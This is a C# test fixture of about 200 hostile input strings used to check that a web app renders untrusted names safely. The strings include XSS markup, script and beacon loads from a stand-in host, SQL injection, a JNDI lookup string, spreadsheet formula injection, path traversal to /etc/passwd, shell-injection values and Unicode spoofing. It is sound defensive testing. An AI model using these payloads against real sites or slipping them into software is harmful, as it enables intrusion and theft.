namespace Probative.Web.Tests.Hostile;

/// <summary>
/// What somebody could call a file, a channel or themselves to harm whoever looks at it: 200 strings, all of
/// our own making. Each script of them, if it runs, sets <c>window.__hit</c> to the number of its group.
/// </summary>
internal static class HostileStrings
{
    private static readonly string[] s_markup =
    [
        "<script>window.__hit=1</script>",
        "</title><script>window.__hit=1</script>",
        "</textarea><script>window.__hit=1</script>",
        "</bdi></h1></main><script>window.__hit=1</script>",
        "<scr<script>ipt>window.__hit=1</scr</script>ipt>",
        "<script src=http://198.51.100.7/x.js></script>",
        "<script type=module>import 'http://198.51.100.7/m.js'</script>",
        "<SCRIPT\t/x>window.__hit=1</SCRIPT\n>",
        "<img src=x onerror=window.__hit=1>",
        "<img src=http://198.51.100.7/pixel.gif>",
        "<img/src=`x`onerror=window.__hit=1>",
        "<svg onload=window.__hit=1>",
        "<svg><script>window.__hit=1</script></svg>",
        "<svg><animate onbegin=window.__hit=1 attributeName=x dur=1s>",
        "<math><mi xlink:href=\"javascript:window.__hit=1\">x</mi></math>",
        "<iframe srcdoc=\"<script>parent.__hit=1</script>\"></iframe>",
        "<iframe src=http://198.51.100.7/></iframe>",
        "<object data=\"data:text/html,<script>parent.__hit=1</script>\"></object>",
        "<embed src=//198.51.100.7/e.swf>",
        "<video autoplay><source onerror=window.__hit=1></video>",
        "<audio src=http://198.51.100.7/a.mp3 autoplay>",
        "<body onload=window.__hit=1>",
        "<details open ontoggle=window.__hit=1>x</details>",
        "<input autofocus onfocus=window.__hit=1>",
        "<select autofocus onfocus=window.__hit=1>",
        "<marquee onstart=window.__hit=1>x</marquee>",
        "<base href=http://198.51.100.7/>",
        "<meta http-equiv=refresh content=\"0;url=http://198.51.100.7/\">",
        "<link rel=stylesheet href=http://198.51.100.7/s.css>",
        "<form action=http://198.51.100.7/><button>Open</button></form>",
        "<a href=http://198.51.100.7/ ping=http://198.51.100.7/p>x</a>",
        "<template><script>window.__hit=1</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=window.__hit=1>\">",
        "<!--><script>window.__hit=1</script-->",
        "<![CDATA[<script>window.__hit=1</script>]]>",
        "<?xml-stylesheet href=\"javascript:window.__hit=1\"?>",
        "&lt;script&gt;window.__hit=1&lt;/script&gt;",
        "&#60;script&#62;window.__hit=1&#60;/script&#62;",
        "<x onclick=window.__hit=1 tabindex=1 id=x>press</x>",
        "<plaintext>",
    ];

    private static readonly string[] s_attributes =
    [
        "\" onmouseover=\"window.__hit=2",
        "' onmouseover='window.__hit=2",
        "\"><img src=x onerror=window.__hit=2>",
        "'><svg onload=window.__hit=2>",
        "` onfocus=`window.__hit=2",
        "\" autofocus onfocus=window.__hit=2 x=\"",
        "\" style=\"position:fixed;inset:0;z-index:9999;background:red",
        "\"/><script>window.__hit=2</script><x a=\"",
        "x\" aria-label=\"signed in as somebody else",
        "\n\nonerror=window.__hit=2\n\n",
        "\\\" onload=window.__hit=2 \\\"",
        "a b=c d='e' f=\"g\" onblur=window.__hit=2",
    ];

    private static readonly string[] s_addresses =
    [
        "javascript:window.__hit=3",
        "JaVaScRiPt:window.__hit=3//",
        "java\tscript:window.__hit=3",
        "\u0001javascript:window.__hit=3",
        "data:text/html,<script>window.__hit=3</script>",
        "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19oaXQ9Mzwvc2NyaXB0Pg==",
        "vbscript:msgbox(3)",
        "//198.51.100.7/elsewhere",
        "http://198.51.100.7/?a=1&b=<script>window.__hit=3</script>#x",
        "http://user:password@198.51.100.7:80/",
        "file:///etc/passwd",
        "blob:http://127.0.0.1/x",
        "?find=x&restricted=1&sheet=1",
        "#room",
        "/case/../../out",
    ];

    private static readonly string[] s_templates =
    [
        "{{constructor.constructor('window.__hit=4')()}}",
        "${window.__hit=4}",
        "#{7*7}",
        "<%= 7*7 %>",
        "@(7*7)",
        "@{ throw new System.Exception(); }",
        "@onclick=\"Delete\"",
        "@Html.Raw(\"<script>window.__hit=4</script>\")",
        "<!--Blazor:{\"type\":\"server\",\"sequence\":0,\"descriptor\":\"x\"}-->",
        "<!--Blazor-Server-Component-State:AAAA-->",
        "<!--bl:1--><!--/bl:1-->",
        "_bl_00000000-0000-0000-0000-000000000000",
        "{0} {1} {99} {0:N999999999}",
        "%s%s%s%n%n%n",
        "{\"__proto__\":{\"isAdmin\":true}}",
        "__proto__",
        "constructor",
        "NaN",
        "null",
        "undefined",
        "${jndi:ldap://198.51.100.7/x}",
        "{% for x in [] %}{% endfor %}",
    ];

    private static readonly string[] s_styles =
    [
        "<style>*{display:none}</style>",
        "</style><style>@import 'http://198.51.100.7/s.css';</style>",
        "red;background:url(http://198.51.100.7/b.png)",
        "expression(window.__hit=5)",
        "x{}body{visibility:hidden}",
        "url(javascript:window.__hit=5)",
        "<p style=\"position:fixed;top:0;left:0;width:100vw;height:100vh\">over everything</p>",
        "items-row active",
        "\\3c script\\3e window.__hit=5",
    ];

    private static readonly string[] s_queries =
    [
        "'; DROP TABLE listed_v1; --",
        "' OR '1'='1",
        "\" OR \"\"=\"",
        "1; ATTACH DATABASE '/tmp/x.db' AS x",
        "%' UNION SELECT NULL,NULL --",
        "x' AND randomblob(1000000000) --",
        "\"unbalanced",
        "NEAR(a b, 5) AND NOT c OR *",
        "name:\"x\" AND {a b}:c",
        "^* ( )",
        "-name",
        "a*b?c[d]",
        "%_%_%",
        "\\",
        "--",
        "/*",
    ];

    private static readonly string[] s_formulas =
    [
        "=1+1",
        "=cmd|'/c calc'!A1",
        "+1+1",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "=HYPERLINK(\"http://198.51.100.7/\",\"press\")",
        "=IMPORTXML(\"http://198.51.100.7/\",\"//a\")",
        "a,b\",\"c\r\nd,e",
    ];

    private static readonly string[] s_terminals =
    [
        "\u001b[2J\u001b[H",
        "\u001b[31mred\u001b[0m",
        "\u001b]0;another title\u0007",
        "\u001b]8;;http://198.51.100.7/\u0007press\u001b]8;;\u0007",
        "\u009b31m",
        "\b\b\b\bover",
        "\u007f\u007f",
        "\u0000in\u0000the\u0000middle",
        "bell\u0007bell",
        "first\nsecond\rthird\u0085fourth\u2028fifth\u2029sixth",
    ];

    private static readonly string[] s_paths =
    [
        "../../../../etc/passwd",
        "..\\..\\..\\windows\\system32",
        "/absolute/path",
        "%2e%2e%2f%2e%2e%2f",
        "....//....//",
        "CON",
        "nul.txt",
        ".hidden",
        "trailing space ",
        "trailing dot.",
        "~/x",
        "$(window.__hit=6)",
        "`touch x`",
        "; rm -rf x",
        "| cat",
        "& echo",
        "> out",
        "-rf",
        "--help",
        "*",
        "name:report-en-01.txt",
    ];

    private static readonly string[] s_directions =
    [
        "photo\u202egpj.exe",
        "\u202eeverything after this is turned",
        "\u202dforced\u202c",
        "\u202bembedded \u202b\u202b\u202bdeeper",
        "\u2067isolated without an end",
        "\u2066\u2067\u2068three isolates without an end",
        "\u2069\u2069\u202c\u202cends without a beginning",
        "\u05d0\u05d1\u05d2 12 34 \u05d3\u05d4",
        "\u0645\u0644\u0641 (1) : 2 / 3",
        "\u200f\u200f: \u200f",
        "\u061c1-2-3",
        "a\u202eb\u202ec\u202ed\u202ee\u202ef",
        "\u05d0!",
        "\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67\u200d\ud83d\udc66",
        "\u202e" + "<script>window.__hit=7</script>",
    ];

    private static readonly string[] s_invisible =
    [
        "\u200b",
        "a\u200bd\u200bm\u200bi\u200bn",
        "\ufeffbegins with a mark",
        "\u00ad\u00ad\u00adsoft",
        "\u2060joined\u2060",
        "\u3164",
        "\u2800\u2800\u2800",
        "\u00a0\u2003\u3000",
        "\u0430dmin",
        "\uff1cscript\uff1e",
        "\ud83c\udff4\udb40\udc67\udb40\udc62\udb40\udc7f",
        "\uffff\ufffe\ufdd0",
        "\u034f\u034f\u034f",
        "\ue000\uf8ff",
        "\ud834\udd73musical\ud834\udd7a",
    ];

    private static readonly string[] s_large =
    [
        new('W', 10_000),
        new('i', 10_000),
        new('\u5b57', 3_000),
        "Z" + new string('\u0301', 500) + "algo",
        string.Concat(Enumerable.Repeat("e\u0301\u0489\u0334\u0362\ufdfa", 200)),
        string.Concat(Enumerable.Repeat("\ufdfd", 200)),
        string.Join('/', Enumerable.Repeat("folder", 1_400)),
        string.Join('-', Enumerable.Repeat("word", 2_000)),
        string.Concat(Enumerable.Repeat("<b>", 3_000)),
        new string(' ', 5_000) + "far away",
        string.Concat(Enumerable.Repeat("\n", 5_000)) + "far below",
        string.Concat(Enumerable.Repeat("\u202e", 2_000)) + "deep",
        string.Concat(Enumerable.Repeat("\ud83d\ude00", 2_500)),
        string.Concat(Enumerable.Repeat("&amp;", 2_000)),
        string.Concat(Enumerable.Repeat("\u0e49", 400)),
    ];

    public static IReadOnlyList<string> All { get; } =
    [
        .. s_markup, .. s_attributes, .. s_addresses, .. s_templates, .. s_styles, .. s_queries,
        .. s_formulas, .. s_terminals, .. s_paths, .. s_directions, .. s_invisible, .. s_large,
    ];

    /// <summary>One of each group, and those that are worst for a page.</summary>
    public static IReadOnlyList<string> Few { get; } =
    [
        s_markup[0], s_markup[8], s_attributes[2], s_addresses[0], s_templates[0], s_templates[8],
        s_styles[0], s_queries[0], s_formulas[1], s_terminals[1], s_directions[0], s_directions[4],
        s_directions[7], s_directions[14], s_invisible[1], s_large[0], s_large[3], s_large[4],
    ];

    /// <summary>As a file system takes it: without what parts a path, at most 230 bytes, unique.</summary>
    public static string FileName(string text, int number)
    {
        var name = new System.Text.StringBuilder();
        var bytes = 0;
        foreach (var rune in text.EnumerateRunes())
        {
            if (rune.Value == 0) continue;
            var one = rune.Value == '/' ? "\u2044" : rune.ToString();
            bytes += System.Text.Encoding.UTF8.GetByteCount(one);
            if (bytes > 230) break;
            name.Append(one);
        }

        return $"{name}~{number:000}.txt";
    }

    /// <summary>As much of it as a field takes.</summary>
    public static string Cut(string text, int most) => text.Length <= most
        ? text
        : char.IsHighSurrogate(text[most - 1]) ? text[..(most - 1)] : text[..most];
}
